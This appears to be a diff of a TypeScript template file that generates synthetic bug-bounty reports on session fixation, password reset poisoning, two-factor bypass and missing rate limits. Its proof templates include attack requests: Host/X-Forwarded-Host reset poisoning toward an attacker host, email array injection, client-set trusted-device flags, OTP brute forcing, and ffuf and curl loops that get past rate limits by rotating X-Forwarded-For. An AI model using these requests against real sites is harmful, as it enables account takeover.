@@ -18,21 +18,21 @@ const sessionFixation: VulnerabilityClass = {
     {
       method: 'POST',
       path: '«api»/account/password',
-      parameter: 'sessions',
-      detail: 'survive a change of the password',
+      parameter: 'session',
+      detail: 'survives a change of the password',
     },
     {
       method: 'DELETE',
       path: '«api»/account',
       parameter: 'access_token',
-      detail: 'of a deleted user stays valid for 24 hours',
+      detail: 'stays valid for 24 hours after the user was deleted',
     },
   ],
   titles: [
     'Session: `«parameter»` «detail»',
     '`«parameter»` «detail» («method» «path»)',
-    'Tokens are not revoked: `«parameter»` «detail»',
-    'Signed URL and token can be replayed after logout',
+    'Old `«parameter»` still works: it «detail»',
+    '«host»: `«parameter»` «detail»',
   ],
   summaries: [
     '`«parameter»` «detail». Whoever has got hold of it once stays inside.',
@@ -73,7 +73,7 @@ Content-Type: application/json
     ],
   ],
   impacts: [
-    'A victim who notices the theft of a session cannot end it. On shared computers the next person is signed in.',
+    'A victim who notices the theft of a session cannot end it. On shared computers the next person may be signed in.',
     'Former team members keep access to «many» for a day.',
   ],
   fixes: [
@@ -96,64 +96,84 @@ const resetPoisoning: VulnerabilityClass = {
     ['Medium', 3],
   ],
   places: [
-    { method: 'POST', path: '/password/forgot', parameter: 'Host' },
-    { method: 'POST', path: '/password/forgot', parameter: 'X-Forwarded-Host' },
-    { method: 'POST', path: '«api»/auth/reset', parameter: 'email[]' },
-    { method: 'GET', path: '/password/reset', parameter: 'Referer' },
-  ],
-  titles: [
-    'Password reset poisoning through `«parameter»` → account takeover',
-    'Reset token leaks to analytics host through the Referer header',
-    'Reset mail is sent to a second address (`«parameter»`)',
-    'Host header injection in «path» puts my domain into the mail',
-  ],
-  summaries: [
-    'The address in the reset mail is made from `«parameter»`. The victim gets a real mail from «company» whose link leads to my host with the token in it.',
-    'The reset page loads a third-party script before the token is taken out of the address. The full address, token included, leaves the house.',
-    'With `«parameter»` I can influence where the token goes. It is valid for 24 hours and can be used more than once.',
-  ],
-  steps: [
-    [
-      'Ask for a reset of `«victim»` with the changed `«parameter»`.',
-      'Open the mail as the victim and click.',
-      'The token is in the log of my host.',
-      'Set a new password with it.',
-    ],
-  ],
-  proofs: [
-    [
-      {
-        say: 'Request:',
-        lang: 'http',
-        code: `POST /password/forgot HTTP/1.1
+    {
+      method: 'POST',
+      path: '/password/forgot',
+      parameter: 'X-Forwarded-Host',
+      detail: 'the link in the mail points to my host',
+      excerpt: `POST /password/forgot HTTP/1.1
 Host: «host»
 X-Forwarded-Host: «attacker»
 Content-Type: application/x-www-form-urlencoded
 
 email=«victim»
 
-HTTP/1.1 302 Found
-Location: /password/sent`,
-      },
-      {
-        say: 'In the mail, from the real sender:',
-        lang: 'text',
-        code: `From: no-reply@«domain»
+# the mail, from the real sender
+From: no-reply@«domain»
 Subject: Reset your password
 
 Click here: https://«attacker»/password/reset?token=«token»`,
-      },
-    ],
-    [
-      {
-        say: 'The request that carries the token away:',
-        lang: 'http',
-        code: `GET /collect?e=view HTTP/2
+    },
+    {
+      method: 'POST',
+      path: '«api»/auth/reset',
+      parameter: 'email[]',
+      detail: 'the mail goes to two addresses',
+      excerpt: `POST «api»/auth/reset HTTP/1.1
+Host: «host»
+Content-Type: application/json
+
+{"email":["«victim»","«me»"]}
+
+HTTP/1.1 200 OK
+{"sent":true}
+
+# in the mailbox of «me»
+https://«host»/password/reset?token=«token»`,
+    },
+    {
+      path: '/password/reset',
+      parameter: 'Referer',
+      detail: 'the token is sent to an analytics host',
+      excerpt: `GET /collect?e=view HTTP/2
 Host: metrics.thirdparty.example
-Referer: https://«host»/password/reset?token=«token»`,
-      },
+Referer: https://«host»/password/reset?token=«token»
+User-Agent: Mozilla/5.0`,
+      titles: [
+        'Reset token leaks to analytics host through the Referer header',
+        'Password reset page sends its token to a third party',
+      ],
+      summaries: [
+        'The reset page loads a third-party script before the token is taken out of the address. The full URL, token included, is sent as `Referer` and stays valid for 24 hours.',
+        'Opening the link in the reset mail gives the token to `metrics.thirdparty.example`. It can be used more than once.',
+      ],
+      steps: [
+        [
+          'Ask for a reset of your own account and open the link in the mail.',
+          'Look at the network tab: the first request to `metrics.thirdparty.example` carries the full address.',
+          'Use the token from there in another browser. It works, even after the password was changed with it once.',
+        ],
+      ],
+    },
+  ],
+  titles: [
+    'Password reset through `«parameter»`: «detail»',
+    'Account takeover with the reset mail («detail»)',
+    'Reset poisoning at «path» (`«parameter»`)',
+    '`«parameter»` decides about the reset of others: «detail»',
+  ],
+  summaries: [
+    'With `«parameter»` in the request to `«path»`, «detail». The token in it is genuine and valid for 24 hours.',
+    'The reset of a foreign account can be steered by `«parameter»`: «detail». Only the e-mail address of the victim must be known.',
+  ],
+  steps: [
+    [
+      'Ask for a reset of `«victim»` with the request below.',
+      'Watch where the token arrives.',
+      'Set a new password with it and sign in as `«victim»`.',
     ],
   ],
+  proofs: [[{ say: 'Request and result:', lang: 'http', code: '«excerpt»' }]],
   impacts: [
     'One click of the victim in a genuine mail costs the account. Mail scanners that follow links do the click by themselves.',
     'Takeover of any account whose e-mail address is known.',
@@ -179,30 +199,61 @@ const secondFactorBypass: VulnerabilityClass = {
     ['Medium', 5],
   ],
   places: [
-    { method: 'POST', path: '/login/2fa', parameter: 'code', detail: 'the step can be skipped' },
+    {
+      method: 'POST',
+      path: '/login/2fa',
+      parameter: 'code',
+      detail: 'the step can be skipped',
+      excerpt: `# after the password, no code entered
+GET «api»/me HTTP/2
+Host: «host»
+Cookie: «cookieName»=«session»
+
+HTTP/2 200
+Content-Type: application/json
+
+{"id":«victimId»,"mfa":{"required":true,"passed":false},"email":"«victim»"}`,
+    },
     {
       method: 'POST',
       path: '«api»/auth/otp/verify',
       parameter: 'code',
       detail: 'codes can be tried without limit',
+      excerpt: `POST «api»/auth/otp/verify   {"code":"000000"}   422
+POST «api»/auth/otp/verify   {"code":"000001"}   422
+…
+POST «api»/auth/otp/verify   {"code":"00«big»"}   200   <- after «big» tries, no lock, no mail to the owner`,
     },
     {
       method: 'POST',
       path: '«api»/auth/otp/verify',
       parameter: 'trustedDevice',
-      detail: 'the answer is decided by the client',
+      detail: 'the client says that the device is trusted',
+      excerpt: `POST «api»/auth/otp/verify HTTP/2
+Host: «host»
+Cookie: «cookieName»=«session»
+Content-Type: application/json
+
+{"code":"","trustedDevice":true}
+
+HTTP/2 200
+{"ok":true,"next":"/home"}`,
     },
     {
       method: 'POST',
       path: '/login/backup',
       parameter: 'backupCode',
       detail: 'backup codes work more than once',
+      excerpt: `08:14:02  POST /login/backup  backupCode=7QXD-91KF   302 /home
+08:20:45  POST /logout                               302 /
+08:21:10  POST /login/backup  backupCode=7QXD-91KF   302 /home   <- the same code`,
     },
   ],
   titles: [
     'Second factor bypass on «host»: «detail»',
-    '2FA: «detail» (`«path»`)',
+    '2FA at «path»: «detail»',
     'Password alone is enough, because «detail»',
+    'Two-factor authentication of «host» does not protect («detail»)',
   ],
   summaries: [
     'After the password the second factor is asked for, but «detail».',
@@ -212,36 +263,11 @@ const secondFactorBypass: VulnerabilityClass = {
     [
       'Switch on the second factor for `«victim»`.',
       'Sign in with the password. The page for the code appears.',
-      'Do the request below in place of entering a code.',
+      'Do what is shown below in place of entering a fresh code.',
       'Open `/home`: signed in.',
     ],
   ],
-  proofs: [
-    [
-      {
-        say: 'Session after the password only:',
-        lang: 'http',
-        code: `GET «api»/me HTTP/2
-Host: «host»
-Cookie: «cookieName»=«session»
-
-HTTP/2 200
-Content-Type: application/json
-
-{"id":«victimId»,"mfa":{"required":true,"passed":false},"email":"«victim»"}`,
-      },
-    ],
-    [
-      {
-        say: 'Trying codes, 10,000 in eleven minutes from one address:',
-        lang: 'text',
-        code: `000000 422
-000001 422
-…
-0«big» 200   <- after «big» tries, no lock, no mail to the owner`,
-      },
-    ],
-  ],
+  proofs: [[{ say: 'What I saw:', lang: 'http', code: '«excerpt»' }]],
   impacts: [
     'With a password from an old leak the account is open, although its owner did everything right.',
     'The protection that is advertised to every «customer» does not exist on this path.',
@@ -266,14 +292,14 @@ const missingRateLimit: VulnerabilityClass = {
   places: [
     { method: 'POST', path: '«api»/login', parameter: 'password' },
     { method: 'POST', path: '«api»/coupons/check', parameter: 'code' },
-    { method: 'POST', path: '«api»/sms/send', parameter: 'phone' },
+    { method: 'POST', path: '«api»/phone/verify', parameter: 'pin' },
     { method: 'POST', path: '«collection»/lookup', parameter: 'pin' },
   ],
   titles: [
     'Missing rate limit on «path» allows guessing `«parameter»`',
-    'No rate limiting: «big» requests to «path» in one minute',
     'Rate limit of «path» is bypassed with `X-Forwarded-For`',
-    'Brute force of `«parameter»` possible at «host»',
+    'No rate limiting: «big» requests to «path» in one minute',
+    'Brute force of `«parameter»` with a new `X-Forwarded-For` each time («host»)',
   ],
   summaries: [
     '`«path»` answers as often as it is asked. I sent «big» requests in a minute and the last one was treated like the first.',
@@ -295,6 +321,17 @@ const missingRateLimit: VulnerabilityClass = {
     -d '{"user":"«me»","«parameter»":"FUZZ"}' -fc 422 -rate 100
 [Status: 200, Size: 412] :: correct-value
 :: Progress: [«big»/«big»] :: 98 req/sec :: Errors: 0 ::`,
+      },
+    ],
+    [
+      {
+        say: 'The eleventh request is refused, with the header it is not:',
+        lang: 'bash',
+        code: `$ for i in $(seq 1 12); do curl -s -o /dev/null -w '%{http_code} ' -X POST 'https://«host»«path»' -d '{}'; done
+422 422 422 422 422 422 422 422 422 422 429 429
+$ for i in $(seq 1 12); do curl -s -o /dev/null -w '%{http_code} ' -X POST 'https://«host»«path»' \\
+    -H "X-Forwarded-For: 203.0.113.$i" -d '{}'; done
+422 422 422 422 422 422 422 422 422 422 422 422`,
       },
     ],
   ],
